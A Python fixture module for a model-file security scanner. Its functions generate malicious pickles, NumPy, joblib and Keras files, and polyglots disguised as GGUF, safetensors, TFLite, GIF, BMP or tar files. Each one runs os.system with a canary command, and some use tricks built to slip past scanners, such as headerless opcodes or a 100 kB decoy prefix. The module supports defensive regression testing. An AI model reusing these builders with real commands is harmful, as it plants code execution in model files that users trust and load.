"""Red-team payloads in realistic carriers (generated; nothing here is ever loaded).

Each function returns the bytes of one file an attacker could publish; the regression
tests in ``tests/regressions/test_redteam_*.py`` scan them through the full scanner.
"""

from __future__ import annotations

from builders import archives
from builders.pickles import PickleBuilder

__all__ = ["compressed_then_junk", "headerless_modern_pickle", "system_call"]

CMD = "id > /tmp/trojanguard-canary"


def system_call(protocol: int = 4, *, header: bool = True) -> bytes:
    """``os.system(CMD)`` with STACK_GLOBAL; ``header=False`` drops the PROTO opcode."""
    p = PickleBuilder(protocol)
    if header:
        p.proto()
    p.short_binunicode("os").short_binunicode("system").stack_global_op()
    return p.short_binunicode(CMD).tuple1().reduce().stop().bytes()


def headerless_modern_pickle(first: bytes = b"") -> bytes:
    """Protocol 2-5 opcodes without ``\\x80 PROTO``: CPython runs them all the same.

    ``first`` is prepended (e.g. ``b"\\x88" + POP`` or a FRAME header) to vary the first
    opcode a sniffer sees.
    """
    return first + system_call(header=False)


def framed_headerless() -> bytes:
    """A FRAME opcode first, no PROTO."""
    return PickleBuilder(4).framed(system_call(header=False)).bytes()


def compressed_then_junk(kind: str, junk: bytes = b"JUNKJUNK") -> bytes:
    """A compressed payload followed by junk: the loader runs the payload before it
    reaches the junk, while the decompressor library raises on the whole read."""
    return archives.compress(system_call(), kind) + junk


def truncated_gzip_payload() -> bytes:
    """A gzip stream cut inside its deflate data, after the payload's bytes."""
    data = archives.compress(system_call() + bytes(5000), "gzip")
    return data[:-20]


def object_npy_named_dtype(descr: object = "object") -> bytes:
    """A .npy whose dtype is spelled by *name* (``numpy.dtype('object')`` is accepted by
    numpy.load, which then unpickles the data) with a payload pickle as its data."""
    from builders import numpyfiles

    header = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': (1,), }}"
    return numpyfiles.raw_npy(header, system_call())


def innocent_npz_with_object_member(descr: object = "object") -> bytes:
    """An .npz whose ``weights.npy`` member is such an object array, next to a real array."""
    import numpy as np

    from builders import numpyfiles

    good = numpyfiles.npy(np.zeros(3, dtype="float32"))
    return archives.build_zip([archives.ZipMember("bias.npy", good),
                               archives.ZipMember("weights.npy", object_npy_named_dtype(descr), archives.DEFLATED)])


def named_float_npy() -> bytes:
    """A benign .npy with a float dtype spelled by name (numpy accepts it)."""
    from builders import numpyfiles

    return numpyfiles.raw_npy("{'descr': 'float32', 'fortran_order': False, 'shape': (2,), }", bytes(8))


def _evil_fn(x: object) -> object:  # compiled and marshalled only, never called
    import os

    os.system("id")
    return x


def keras_lambda_loss(form: str = "code") -> bytes:
    """A .keras whose compile_config loss is a serialized lambda (``func_load``ed by
    ``compile_from_config``); ``form`` is the Lambda-layer ``code`` or the
    serialization_lib ``value`` spelling."""
    from builders import keras_files

    code = keras_files.lambda_code(_evil_fn)
    inner = {"code": code, "defaults": None, "closure": None} if form == "code" else {"value": [code, None, None]}
    config = keras_files.functional([keras_files.dense()])
    config["compile_config"] = {"optimizer": "adam", "loss": {"class_name": "__lambda__", "config": inner}}
    return keras_files.keras_zip(config)


def h5_lambda_training_loss() -> bytes:
    """A legacy HDF5 model whose training_config loss is a serialized lambda."""
    from builders import keras_files

    loss = {"class_name": "__lambda__", "config": {"code": keras_files.lambda_code(_evil_fn)}}
    return keras_files.legacy_h5({"class_name": "Sequential", "config": {"name": "s", "layers": []}},
                                 training={"loss": loss, "optimizer_config": {"class_name": "Adam", "config": {}}})


def keras_nested_lambda_layer() -> bytes:
    """Sequential > Functional > TimeDistributed > Lambda (each level a real Keras wrapper)."""
    from builders import keras_files

    lam = keras_files.lambda_v3(_evil_fn)
    td = {"module": "keras.layers", "class_name": "TimeDistributed", "registered_name": None,
          "config": {"name": "td", "layer": lam}}
    inner = keras_files.functional([keras_files.dense(), td], name="inner")
    seq = {"module": "keras", "class_name": "Sequential", "registered_name": None,
           "config": {"name": "seq", "layers": [keras_files.dense(), inner]}}
    return keras_files.keras_zip(seq)


DECOY = b"A" * 100_000


def long_first_argument(kind: str) -> bytes:
    """A 100 kB decoy argument first, POPped, then the payload: the sniffer's 4 KiB head is
    cut inside the first argument (header-less kinds), or the line is longer than the
    VM's line bound (protocol 0 STRING/UNICODE, with or without a PROTO header)."""
    import struct

    proto0 = b"cos\nsystem\n(S'id'\ntR."
    if kind == "binbytes8":
        return b"\x8e" + struct.pack("<Q", len(DECOY)) + DECOY + b"0" + system_call(header=False)
    if kind == "binunicode":
        return b"X" + struct.pack("<I", len(DECOY)) + DECOY + b"0" + system_call(header=False)
    if kind == "string":
        return b"S'" + DECOY + b"'\n0" + proto0
    if kind == "unicode":
        return b"V" + DECOY + b"\n0" + proto0
    if kind == "proto2-string":
        return b"\x80\x02S'" + DECOY + b"'\n0" + proto0
    raise ValueError(kind)


def polyglot(kind: str) -> bytes:
    """A file whose magic says ``kind`` but which is also a valid pickle running os.system.

    * gguf: ``GGUF`` + 5 bytes is one BINFLOAT opcode (``G`` + 8 bytes);
    * safetensors: ``C`` SHORT_BINBYTES of 7 bytes makes bytes 0-7 a small little-endian
      length and byte 8 the ``{`` safetensors needs;
    * tflite: NEWTRUE POP NEWTRUE, then ``C`` whose length byte is the ``T`` of ``TFL3``;
    * gif: ``GIF89a`` + 3 bytes is one BINFLOAT after ``G``;
    * bmp: ``B`` BINBYTES whose 4-byte length starts with the ``M`` of ``BM``.
    Every prefix value is POPped, so the stream then runs the payload.
    """
    pay = system_call(header=False)
    if kind == "gguf":
        return b"GGUF\x03\x00\x00\x00\x00" + b"0" + pay
    if kind == "safetensors":
        return b"C\x07\x00\x00\x00\x00\x00\x00{" + b"0" + pay + b"N0" * 1000
    if kind == "tflite":
        return b"\x880\x88C" + b"TFL3" + b"x" * 80 + b"00" + pay
    if kind == "gif":
        return b"GIF89a\x00\x00\x00" + b"0" + pay
    if kind == "bmp":
        return b"BM\x00\x00\x00" + bytes(0x4D) + b"0" + pay
    if kind == "tar":
        return _tar_polyglot()
    raise ValueError(kind)


def _tar_polyglot() -> bytes:
    """A ustar archive whose first member is named ``S'``: the 512-byte header becomes one
    quoted STRING that the member's content closes, then the content runs the payload."""
    import io
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        data = b"'\n0" + b"cos\nsystem\n(S'id'\ntR."
        info = tarfile.TarInfo("S'")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def joblib_object_array(spec: str = "object") -> bytes:
    """A joblib NumpyArrayWrapper whose dtype is spelled ``spec``; for an object dtype
    joblib unpickles the array inline, here a protocol-2 ``os.system`` call."""
    p = PickleBuilder(4).proto().global_ref("joblib.numpy_pickle", "NumpyArrayWrapper").empty_tuple().newobj()
    p.empty_dict().mark().value("subclass").global_ref("numpy", "ndarray").value("shape").value(1).tuple1()
    p.value("order").value("C").value("dtype").global_ref("numpy", "dtype").args(spec, False, True).reduce()
    p.mark().value(3).value("|").none().none().none().value(-1).value(-1).value(63).tuple_().build()
    p.value("allow_mmap").newfalse().setitems().build()
    if spec in ("float64", "<f8", "f8"):
        return p.raw(bytes(8)).stop().bytes()
    inner = PickleBuilder(2).proto().global_("os", "system").value(CMD).tuple1().reduce().stop().bytes()
    return p.raw(inner).stop().bytes()


def keras_torch_zip_polyglot() -> bytes:
    """A .keras zip (config.json with a Lambda, metadata.json, weights) that also holds
    ``archive/data.pkl``: identified as a torch zip, its Keras config went unchecked."""
    from builders import keras_files, torchfiles

    config = keras_files.functional([keras_files.lambda_v3(_evil_fn)])
    extra = {"archive/data.pkl": torchfiles.state_dict_pickle(torchfiles.tensors(1)), "archive/data/0": bytes(24)}
    return keras_files.keras_zip(config, extra=extra)


def keras_config_only_zip(name: str = "config.json") -> bytes:
    """A zip holding only Keras' config.json (Keras needs nothing else to rebuild the model
    and call its Lambda): it was a plain zip, its config a plain JSON."""
    import io
    import json
    import zipfile

    from builders import keras_files

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(name, json.dumps(keras_files.functional([keras_files.lambda_v3(_evil_fn)])))
    return buf.getvalue()


def keras_model_json() -> bytes:
    """``model.to_json()`` output with a Lambda layer (Keras 2 ``model_from_json``)."""
    import json

    from builders import keras_files

    return json.dumps(keras_files.functional([keras_files.lambda_v3(_evil_fn)])).encode()


def tar_with_type(typeflag: bytes, data: bytes | None = None) -> bytes:
    """A GNU tar whose one member ``model/data.pkl`` has the given type flag."""
    import io
    import tarfile

    payload = system_call() if data is None else data
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo("model/data.pkl")
        info.size = len(payload)
        info.type = typeflag
        tar.addfile(info, io.BytesIO(payload))
    return buf.getvalue()


def zip_member_zstd(name: str, data: bytes, declared: int | None = None) -> bytes:
    """A one-member zip with compression method 93 (zstd; Python 3.14's zipfile reads it)."""
    import struct
    import zlib

    import zstandard

    comp = zstandard.ZstdCompressor().compress(data)
    raw, crc = name.encode(), zlib.crc32(data)
    size = len(data) if declared is None else declared
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 63, 0, 93, 0, 0x21, crc, len(comp), size, len(raw), 0) + raw + comp
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 63, 63, 0, 93, 0, 0x21, crc, len(comp), size, len(raw),
                          0, 0, 0, 0, 0, 0) + raw
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + end
